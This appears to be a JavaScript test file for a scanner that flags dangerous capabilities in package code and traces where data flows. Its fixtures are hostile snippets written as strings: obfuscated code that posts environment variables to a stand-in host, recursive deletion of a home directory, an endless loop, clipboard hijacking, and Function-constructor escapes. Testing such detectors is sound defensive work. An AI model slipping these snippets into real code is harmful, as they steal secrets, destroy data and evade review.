import assert from 'node:assert/strict';
import { hasPower } from '../../../../../server/src/artifacts/analysis/code/package/power-in-text.js';
import { flowsOf } from '../platform/sent.js';

describe('words of power in a text', () => {
  it('lets nobody past who has all globals under another name', () => {
    const code = `const g = globalThis, f = g['fe' + 'tch'], p = g[['pro', 'cess'].join('')];
      f('https://collect.invalid', { method: 'POST', body: JSON.stringify(Reflect.get(p, 'env')) });`;
    assert.ok(hasPower(code));
    assert.deepEqual(flowsOf(code), ['environment>network@collect.invalid']);
  });

  it('lets nobody past who removes files by promises, or counts for ever', () => {
    assert.ok(hasPower(`import { rm } from 'fs/promises'; await rm(home, { recursive: true });`));
    assert.ok(hasPower('let n = 0; do { n += 1; } while (n !== -1);'));
  });

  it('lets nobody past who puts something else where somebody copies', () => {
    assert.ok(hasPower(`document.addEventListener('copy', (e) => e.clipboardData.setData('text/plain', own));`));
  });

  it('lets nobody past who gets at what makes functions by a name of its own', () => {
    for (const name of ['.constructor;', `['con' + 'structor'];`, `['rotcurtsnoc'.split('').reverse().join('')];`]) {
      const code = `function render() {}
        const make = render${name}
        const all = make('return this')();
        all.fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all.process['env']) });`;
      assert.ok(hasPower(code), name);
      assert.deepEqual(flowsOf(code), ['environment>network@collect.invalid'], name);
    }
  });

  it('lets what can only compute alone', () => {
    for (const code of [
      'exports.add = (a, b) => a + b;',
      `var root = typeof globalThis !== 'undefined' ? globalThis : self; root.Library = factory();`,
      'for (let i = 9; i >= 0; i--) total += i;',
      'while (at !== 9) at = next[at];',
    ])
      assert.equal(hasPower(code), false, code);
  });
});
